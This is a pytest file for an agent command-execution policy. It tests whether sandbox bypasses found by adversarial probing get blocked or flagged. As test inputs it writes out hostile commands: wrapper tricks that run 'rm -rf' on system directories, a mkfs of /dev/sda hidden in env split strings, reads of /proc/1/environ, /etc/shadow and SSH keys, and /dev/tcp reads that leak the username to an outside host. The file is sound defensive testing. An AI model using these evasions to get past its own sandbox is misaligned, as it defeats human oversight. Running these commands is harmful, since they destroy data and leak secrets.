"""Execpolicy: ways an auto-allowed command could reach past the sandbox, found by
probing the policy as an attacker would; each case was allowed (or judged too leniently)
before its fix."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.execpolicy.conftest import judge


@pytest.mark.parametrize(
    "command",
    [
        "ssh host id",
        "ssh -F cfg host ls",  # cfg may say ProxyCommand / LocalCommand: run here
        "/usr/bin/ssh host id",
        "env ssh host id",
        "sshpass -p x ssh host id",
        "mosh host",
    ],
)
def test_remote_shells_need_approval(command: str, ws: Path, home: Path) -> None:
    decision, why = judge(command, ws, home)
    assert decision == "prompt", why
    assert "another machine" in why, why


@pytest.mark.parametrize(
    "command",
    [
        "env -C / rm -rf etc",
        "env -C/ rm -rf etc",
        "env --chdir=/ rm -rf home",
        "sudo -D / rm -rf etc",
        "unshare -w / rm -rf etc",
        "nsenter --wd=/ rm -rf usr",
    ],
)
def test_a_wrappers_directory_counts_for_relative_paths(command: str, ws: Path, home: Path) -> None:
    decision, why = judge(command, ws, home)
    assert decision == "forbidden", why


def test_a_wrappers_directory_reaches_process_state(ws: Path, home: Path) -> None:
    decision, why = judge("env -C /proc/1 cat environ", ws, home)
    assert decision == "prompt" and "/proc/1/environ" in why, why
    assert judge("env -C src ls", ws, home)[0] == "allow"


@pytest.mark.parametrize(
    "command",
    ["sed 'r /proc/1/environ' f", "sed 'R /proc/self/environ' f", "sed '1r environ' f"],
)
def test_sed_reading_process_state_needs_approval(command: str, ws: Path, home: Path) -> None:
    decision, why = judge(command, ws, home)
    assert decision == "prompt" and "environ" in why, why


def test_sed_reading_an_ordinary_file_stays_allowed(ws: Path, home: Path) -> None:
    assert judge("sed '$r header.txt' f", ws, home)[0] == "allow"


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("yq '.a = load(\"/proc/1/environ\")' f", "prompt"),
        ("yq 'load_str(\"/etc/shadow\")' f", "prompt"),
        ("yq '.a = load(.path)' f", "prompt"),
        ("yq '.a = load(\"other.yaml\")' f", "allow"),
        ("yq e '.a' f", "allow"),
    ],
)
def test_yq_loading_files(command: str, expected: str, ws: Path, home: Path) -> None:
    decision, why = judge(command, ws, home)
    assert decision == expected, why


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        # ~- is $OLDPWD, ~+ is $PWD: taken for files named "~-" before, inside the workspace
        ("rm -rf ~-", "prompt"),
        ("cd / && cd /tmp && rm -rf ~-", "prompt"),
        ("rm -rf ~+/..", "prompt"),
        ("rm -rf ~1", "prompt"),
        ("cat ~-/environ", "prompt"),
        ("cat ~+/x", "allow"),
        ("cat '~-/x'", "allow"),
    ],
)
def test_directory_tildes_are_run_time_values(
    command: str, expected: str, ws: Path, home: Path
) -> None:
    decision, why = judge(command, ws, home)
    assert decision == expected, why


def test_a_cd_into_the_home_folder_does_not_make_every_expansion_a_secret(
    ws: Path, home: Path
) -> None:
    assert judge(f'cd {home} && cat "$f"', ws, home)[0] == "allow"
    assert judge(f"cd {home}/.ssh && cat ~+/id_rsa", ws, home)[0] == "prompt"


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        # env -S splits by env's rules, not bash's: \_ separates words, # starts a comment
        ("env -S 'mkfs.ext4\\_/dev/sda'", "forbidden"),
        ("env -S '#x' mkfs.ext4 /dev/sda", "forbidden"),
        ("env -S '#comment' ls", "allow"),
        ("env -S 'echo \\c rm -rf ~'", "allow"),
        ("env -S 'cat ${HOME}/.ssh/id_rsa'", "prompt"),
        ("env -S 'ls $X'", "prompt"),  # env refuses $X without braces: asked about
    ],
)
def test_env_split_string(command: str, expected: str, ws: Path, home: Path) -> None:
    decision, why = judge(command, ws, home)
    assert decision == expected, why


@pytest.mark.parametrize(
    "command",
    [
        "xargs --process-slot-var=PATH ls",
        "xargs -P2 --process-slot-var PATH ls",
        "xargs --proc=LD_PRELOAD ls",
    ],
)
def test_xargs_setting_a_variable_needs_approval(command: str, ws: Path, home: Path) -> None:
    decision, why = judge(command, ws, home)
    assert decision == "prompt", why


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        # getopt_long and git's parse-options take any unambiguous prefix of a long option
        ("env --sp='mkfs.ext4 /dev/sda'", "forbidden"),
        ("env --split 'mkfs.ext4 /dev/sda'", "forbidden"),
        ("env --chd=/ rm -rf etc", "forbidden"),
        ("date --se=2020-01-01", "prompt"),
        ("date --s=now", "prompt"),
        ("git log --outp=/etc/x", "prompt"),
        ("git diff --ext", "prompt"),
        ("git grep --open-files=id x", "prompt"),
        ("sort --comp=id f", "prompt"),
        ("awk --fi=prog.awk f", "prompt"),
        ("awk --lo=ext.so 'BEGIN{}'", "prompt"),
        ("awk --pro=/etc/x '{print}' f", "prompt"),
        ("date --da=yesterday", "allow"),
        ("uniq --sk=1 f", "allow"),
        ("env --ignore ls", "allow"),
    ],
)
def test_abbreviated_long_options(command: str, expected: str, ws: Path, home: Path) -> None:
    decision, why = judge(command, ws, home)
    assert decision == expected, why


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("awk 'BEGIN{ARGV[1]=\"/proc/1/environ\"; ARGC=2} {print}'", "prompt"),
        ('awk \'BEGIN{ARGV[1]="/pro" "c/1/environ"; ARGC=2} {print}\'', "prompt"),
        ("awk '{print $1}' f", "allow"),
    ],
)
def test_awk_choosing_its_own_input_files(
    command: str, expected: str, ws: Path, home: Path
) -> None:
    decision, why = judge(command, ws, home)
    assert decision == expected, why


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("git symbolic-ref -d HEAD", "prompt"),  # deletes HEAD
        ("git symbolic-ref --delete HEAD", "prompt"),
        ("git symbolic-ref -qd HEAD", "prompt"),
        ("git symbolic-ref --short HEAD", "allow"),
        # git log's options, --output=FILE among them
        ("git stash show -p --output=/etc/x", "prompt"),
        ("git stash list --output=/etc/x", "prompt"),
        ("git reflog show --output=/etc/x", "prompt"),
        ("git reflog show --ext-diff", "prompt"),
        ("git stash show -p", "allow"),
        ("git reflog show", "allow"),
    ],
)
def test_git_subcommands_that_write(command: str, expected: str, ws: Path, home: Path) -> None:
    decision, why = judge(command, ws, home)
    assert decision == expected, why


@pytest.mark.parametrize(
    "command",
    [
        # a read from bash's /dev/tcp connects too, and the host name itself is sent out
        "cat < /dev/tcp/example.com/80",
        'head -c 1 < "/dev/tcp/$(whoami).example.com/80"',
        ": < /dev/tcp/example.com/80",
        "true < /dev/udp/x.example.com/53",
        "x=/dev/tcp/example.com/80; cat < $x",
        "cat < /dev/$x/example.com/80",
    ],
)
def test_network_redirections_are_never_allowed(command: str, ws: Path, home: Path) -> None:
    decision, why = judge(command, ws, home)
    assert decision == "unmatched" and "network" in why, why


@pytest.mark.parametrize("command", ['cat < "$f"', "cat < $d/x", "cat < input.txt"])
def test_ordinary_input_redirections_stay_allowed(command: str, ws: Path, home: Path) -> None:
    assert judge(command, ws, home)[0] == "allow"
